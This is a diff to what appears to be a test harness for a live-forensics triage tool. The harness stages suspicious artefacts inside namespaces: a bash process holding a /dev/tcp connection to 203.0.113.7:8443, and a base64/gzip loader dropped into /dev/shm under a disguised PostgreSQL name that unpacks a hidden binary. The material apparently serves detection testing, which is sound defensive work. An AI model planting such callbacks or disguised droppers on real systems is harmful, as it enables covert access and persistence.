@@ -44,6 +44,10 @@ def main(arguments: list[str]) -> None:
 def inside(place: Path) -> None:
     """In the namespaces: stage, look, and leave what was shown and the HTML report."""
     socket.sethostname("web-03")
+    for line in reversed(Path("/proc/self/mountinfo").read_text("utf-8").splitlines()):
+        point = line.split()[4]
+        if point.startswith(("/tmp/", "/mnt/", "/media/")):  # in this namespace alone
+            subprocess.run(["umount", "--lazy", point], check=True)
     subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=1777", "shm", "/dev/shm"], check=True)
     staged = stage()
     command = [sys.executable, "-m", "triage", "live", "--width", str(WIDTH)]
@@ -73,6 +77,7 @@ def stage() -> list[subprocess.Popen[bytes]]:
     os.write(script, b"#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.7/8443\nsleep 600\n")
     command = ["/bin/bash", f"/dev/fd/{script}"]
     staged.append(subprocess.Popen(command, pass_fds=(script,), stderr=subprocess.DEVNULL, env={}))
+    os.close(script)
     loader = base64.encodebytes(gzip.compress(program, mtime=0))
     text = b"#!/bin/sh\nbase64 -d <<'E' | gzip -dc >/dev/shm/.x && chmod +x /dev/shm/.x\n"
     Path("/dev/shm/PostgreSQL.2087").write_bytes(text + loader + b"E\n")
